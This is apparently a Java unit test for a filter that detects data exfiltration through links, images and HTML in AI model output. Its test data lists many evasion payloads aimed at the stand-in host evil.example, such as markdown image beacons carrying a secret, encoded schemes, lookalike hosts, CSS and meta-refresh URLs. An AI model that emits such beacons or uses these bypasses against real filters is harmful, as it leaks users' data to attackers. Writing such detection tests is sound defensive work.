package dev.weir.governance.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExfiltrationTest {

  private final Exfiltration exfiltration =
      new Exfiltration(Set.of("docs.example.com", ".trusted.example"));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=secret)",
        "[x](http://evil.example/)",
        "![x][1]\n\n[1]: https://evil.example/log",
        "see https://evil.example/a",
        "<https://evil.example>",
        "<img src=\"https://evil.example/p.png\">",
        "<img src = //evil.example/p.png>",
        "![x](//evil.example/p.png)",
        "![x](https:/\\evil.example/p.png)",
        "![x](https://docs.example.com@evil.example/)",
        "![x](https://docs.example.com.evil.example/)",
        "![x](HTTPS://EVIL.example/)",
        "![x](< https://evil.example/>)",
        "[call](ftp://evil.example/file)",
        "![x][pic] and later\n\n[pic]:\n  //evil.example/p.png 'title'",
        "<ftp://evil.example/file>",
        "www.evil.example/?q=secret",
        "![x](https&#58;&#x2F;&sol;evil.example/p.png)",
        "![x](https\\://evil.example/p.png)",
        "![x](https://docs.example.com\\.evil.example/p.png)",
        "![x](https://%65vil.example/p.png)",
        "<img src='ht\ntps://evil.example/p.png'>",
        "<img srcset=\"//docs.example.com/a.png 1x, //evil.example/b.png 2x\">",
        "<a href=javascript:send()>x</a>",
        "<p style='background:url(//evil.example/p.png)'>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "![x](https://docs.example.com\u3002evil.example/p.png)",
        "{\"text\":\"![x](https:\\/\\/evil.example\\/p.png)\"}",
      })
  void findsAnAddressOutsideTheList(String output) {
    assertThat(exfiltration.check(output)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://docs.example.com/a.png)",
        "[x](https://api.trusted.example/)",
        "see https://docs.example.com/page?x=1#y",
        "see https://docs.example.com, https://docs.example.com. And **https://docs.example.com**",
        "{\"url\":\"https://docs.example.com\",\"n\":1}",
        "![x](https&colon;//docs.example.com/p.png)",
        "www.trusted.example and ftp is old, as http: and https: are",
        "<img srcset='//docs.example.com/a.png 1x, //api.trusted.example/b.png 2x'>",
        "[x](#below), [y](other.md), [z](mailto:me)",
        "array[0](x) and a[1]: nothing",
        "plain words"
      })
  void letsAllowedAndRelativeAddressesPass(String output) {
    assertThat(exfiltration.check(output)).isEmpty();
  }

  @Test
  void saysWhereInCodePointsAndHow() {
    String output =
        "\ud83d\ude00 ![x](https://evil.example/) and <img src='https://evil.example/'>";

    assertThat(exfiltration.check(output))
        .containsExactly(
            new Exfiltration.Leak(Exfiltration.Way.IMAGE, 7, 28),
            new Exfiltration.Leak(Exfiltration.Way.HTML, 44, 65));
  }

  @Test
  void waitsForTheWholeHostWhileMoreMayCome() {
    assertThat(told("![x](https://docs.exam", false)).isEmpty();
    assertThat(told("![x](https&#4", false)).isEmpty();
    assertThat(told("![x](https://docs.exam", true)).isEqualTo("[https://docs.exam]");
    assertThat(told("![x](https://evil.example/", false)).isEqualTo("[https://evil.example/]");
    assertThat(told("![x](https://evil.example)", false)).isEqualTo("[https://evil.example]");
    assertThat(told("![x](https://" + "e".repeat(400), false)).isNotEmpty();
  }

  private String told(String text, boolean ended) {
    StringBuilder told = new StringBuilder();
    exfiltration.find(
        text, ended, (_, start, end) -> told.append('[').append(text, start, end).append(']'));
    return told.toString();
  }

  @Test
  void staysBoundedOnManyAddresses() {
    assertThat(exfiltration.check("![x](https://evil.example/) ".repeat(10_000)))
        .hasSize(Exfiltration.LEAKS_MAX);
  }
}
